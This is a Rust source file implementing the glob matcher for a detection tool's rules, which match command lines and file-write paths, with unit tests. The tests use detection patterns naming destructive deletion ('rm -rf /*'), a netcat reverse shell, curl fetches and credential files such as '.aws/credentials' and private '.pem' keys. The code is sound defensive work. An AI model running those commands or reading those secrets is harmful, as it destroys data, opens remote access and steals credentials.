//! The glob patterns of `[[detect.rules]]`.

use std::fmt;

/// How a [`Glob`] treats `/`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GlobMode {
    /// `*` matches any characters, `/` included (`exec` patterns).
    Text,
    /// `*` and `?` stay within a path component, `**` crosses them, `**/`
    /// also matches nothing, and a pattern without `/` is matched against
    /// the last component (`write` patterns).
    Path,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Char(char),
    /// `?`.
    One,
    /// `*`.
    Star,
    /// `**` not followed by `/`: any characters.
    AnyChars,
    /// `**/`: nothing, or any characters ending with `/`.
    AnyDirs,
    /// `[...]`: the ranges (a single character is a range of one).
    Set {
        negated: bool,
        ranges: Vec<(char, char)>,
    },
}

/// A compiled glob of `[[detect.rules]]` (see [`DetectRule::exec`] and
/// [`DetectRule::write`] for the syntax).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Glob {
    tokens: Vec<Token>,
    mode: GlobMode,
    /// Path mode without `/`: matched against the last component.
    name_only: bool,
    text: String,
}

impl Glob {
    /// Compiles `text`; the error says what is wrong with it.
    pub fn new(text: &str, mode: GlobMode) -> Result<Glob, String> {
        if text.is_empty() {
            return Err("the pattern is empty".to_owned());
        }
        if let Some(c) = text.chars().find(|c| c.is_control()) {
            return Err(format!(
                "pattern {text:?} contains the control character {c:?}"
            ));
        }
        let name_only = mode == GlobMode::Path && !text.contains('/');
        if mode == GlobMode::Path
            && !name_only
            && !text.starts_with('/')
            && !text.starts_with("**/")
        {
            return Err(format!(
                "pattern {text:?} is relative: paths in file.write events are absolute; start \
                 it with / or **/, or give a file name without /"
            ));
        }
        let chars: Vec<char> = text.chars().collect();
        let mut tokens = Vec::with_capacity(chars.len());
        let mut i = 0;
        while i < chars.len() {
            match chars[i] {
                '\\' => {
                    let c = chars.get(i + 1).ok_or_else(|| {
                        format!("pattern {text:?} ends with '\\', which escapes nothing")
                    })?;
                    tokens.push(Token::Char(*c));
                    i += 2;
                }
                '?' => {
                    tokens.push(Token::One);
                    i += 1;
                }
                '*' => {
                    let mut n = 0;
                    while chars.get(i + n) == Some(&'*') {
                        n += 1;
                    }
                    if mode == GlobMode::Text {
                        tokens.push(Token::Star);
                    } else if n > 2 {
                        return Err(format!(
                            "pattern {text:?} has {n} '*' in a row: write * (within a path \
                             component) or ** (across components)"
                        ));
                    } else if n == 1 {
                        tokens.push(Token::Star);
                    } else if chars.get(i + 2) == Some(&'/') {
                        tokens.push(Token::AnyDirs);
                        n += 1;
                    } else {
                        tokens.push(Token::AnyChars);
                    }
                    i += n;
                }
                '[' => {
                    let (token, next) = set(text, &chars, i)?;
                    tokens.push(token);
                    i = next;
                }
                c => {
                    tokens.push(Token::Char(c));
                    i += 1;
                }
            }
        }
        Ok(Glob {
            tokens,
            mode,
            name_only,
            text: text.to_owned(),
        })
    }

    /// The pattern as written.
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// Whether `subject` (a joined argv or a path) matches the whole pattern.
    pub fn matches(&self, subject: &str) -> bool {
        match self.mode {
            GlobMode::Text => self.matches_text(subject),
            GlobMode::Path => {
                let subject = if self.name_only {
                    subject.rsplit('/').next().unwrap_or(subject)
                } else {
                    subject
                };
                let chars: Vec<char> = subject.chars().collect();
                let mut failed = vec![false; (self.tokens.len() + 1) * (chars.len() + 1)];
                self.matches_path(0, &chars, 0, &mut failed)
            }
        }
    }

    /// The classic wildcard walk, backtracking to the last `*` only: linear
    /// in practice, so a long argv costs little.
    fn matches_text(&self, subject: &str) -> bool {
        let text: Vec<char> = subject.chars().collect();
        let (mut t, mut s) = (0, 0);
        let mut star: Option<(usize, usize)> = None;
        while s < text.len() {
            match self.tokens.get(t) {
                Some(Token::Star | Token::AnyChars | Token::AnyDirs) => {
                    star = Some((t, s));
                    t += 1;
                }
                Some(token) if single(token, text[s], false) => {
                    t += 1;
                    s += 1;
                }
                _ => match star {
                    Some((st, ss)) => {
                        t = st + 1;
                        s = ss + 1;
                        star = Some((st, ss + 1));
                    }
                    None => return false,
                },
            }
        }
        self.tokens[t..]
            .iter()
            .all(|tok| matches!(tok, Token::Star | Token::AnyChars | Token::AnyDirs))
    }

    /// Path matching, memoizing the (token, position) pairs that failed.
    fn matches_path(&self, t: usize, s: &[char], at: usize, failed: &mut [bool]) -> bool {
        let width = s.len() + 1;
        if failed[t * width + at] {
            return false;
        }
        let ok = match self.tokens.get(t) {
            None => at == s.len(),
            Some(Token::Star) => (at..=s.len())
                .take_while(|&end| end == at || s[end - 1] != '/')
                .any(|end| self.matches_path(t + 1, s, end, failed)),
            Some(Token::AnyChars) => {
                (at..=s.len()).any(|end| self.matches_path(t + 1, s, end, failed))
            }
            Some(Token::AnyDirs) => {
                self.matches_path(t + 1, s, at, failed)
                    || (at + 1..=s.len())
                        .filter(|&end| s[end - 1] == '/')
                        .any(|end| self.matches_path(t + 1, s, end, failed))
            }
            Some(token) => {
                at < s.len()
                    && single(token, s[at], true)
                    && self.matches_path(t + 1, s, at + 1, failed)
            }
        };
        if !ok {
            failed[t * width + at] = true;
        }
        ok
    }
}

/// Whether a one-character token matches `c` (`path`: never `/` by `?` or a set).
fn single(token: &Token, c: char, path: bool) -> bool {
    match token {
        Token::Char(x) => *x == c,
        Token::One => !(path && c == '/'),
        Token::Set { negated, ranges } => {
            !(path && c == '/')
                && ranges.iter().any(|(lo, hi)| (*lo..=*hi).contains(&c)) != *negated
        }
        Token::Star | Token::AnyChars | Token::AnyDirs => false,
    }
}

/// `[...]` starting at `chars[start]`: the token and the index after `]`.
fn set(text: &str, chars: &[char], start: usize) -> Result<(Token, usize), String> {
    let mut i = start + 1;
    let negated = matches!(chars.get(i), Some('!' | '^'));
    if negated {
        i += 1;
    }
    let mut ranges = Vec::new();
    let first = i;
    loop {
        let c = *chars
            .get(i)
            .ok_or_else(|| format!("pattern {text:?} has a '[' without its closing ']'"))?;
        if c == ']' && i > first {
            break;
        }
        if chars.get(i + 1) == Some(&'-') && chars.get(i + 2).is_some_and(|e| *e != ']') {
            let end = chars[i + 2];
            if end < c {
                return Err(format!(
                    "pattern {text:?} has the range {c}-{end}, which goes backwards"
                ));
            }
            ranges.push((c, end));
            i += 3;
        } else {
            ranges.push((c, c));
            i += 1;
        }
    }
    Ok((Token::Set { negated, ranges }, i + 1))
}

impl fmt::Display for Glob {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_globs_match_anything_with_star() {
        let g = |p: &str| Glob::new(p, GlobMode::Text).unwrap();
        assert!(g("rm -rf /*").matches("rm -rf /"));
        assert!(g("rm -rf /*").matches("rm -rf /home/me"));
        assert!(!g("rm -rf /*").matches("rm -rf ./build"));
        assert!(g("*nc*-e*").matches("/usr/bin/nc -e /bin/sh 1.2.3.4 9"));
        assert!(g("curl ?ttp*").matches("curl http://x"));
        assert!(g("x[0-9][!a]").matches("x5b"));
        assert!(!g("x[0-9][!a]").matches("x5a"));
        assert!(g("a\\*b").matches("a*b"));
        assert!(!g("a\\*b").matches("axb"));
        assert!(g("**").matches(""));
        assert!(!g("ab").matches("abc"));
        // A long argv costs linear time.
        let long = format!("{}b", "a".repeat(100_000));
        assert!(g("*a*a*a*b").matches(&long));
        assert!(!g("*a*a*a*c").matches(&long));
    }

    #[test]
    fn path_globs_keep_components() {
        let g = |p: &str| Glob::new(p, GlobMode::Path).unwrap();
        assert!(g("/srv/**").matches("/srv/a/b"));
        assert!(!g("/srv/**").matches("/srvx/a"));
        assert!(g("/srv/*").matches("/srv/a"));
        assert!(!g("/srv/*").matches("/srv/a/b"));
        assert!(g("**/.aws/credentials").matches("/home/me/.aws/credentials"));
        assert!(g("**/.aws/credentials").matches("/.aws/credentials"));
        assert!(g("/a/**/b").matches("/a/b"));
        assert!(g("/a/**/b").matches("/a/x/y/b"));
        assert!(!g("/a/**/b").matches("/a/xb"));
        assert!(g("*.pem").matches("/etc/ssl/private/k.pem"));
        assert!(!g("*.pem").matches("/etc/k.pem.bak"));
        assert!(!g("/a/?").matches("/a//"));
        assert!(!g("/a[/]b").matches("/a/b"));
        assert!(g("/a/**").matches("/a/"));
        assert_eq!(g("/srv/**").to_string(), "/srv/**");
        for bad in ["", "a/b", "/a/***", "/[z-a]", "/x\\", "/a\u{7}"] {
            assert!(Glob::new(bad, GlobMode::Path).is_err(), "{bad:?}");
        }
    }
}
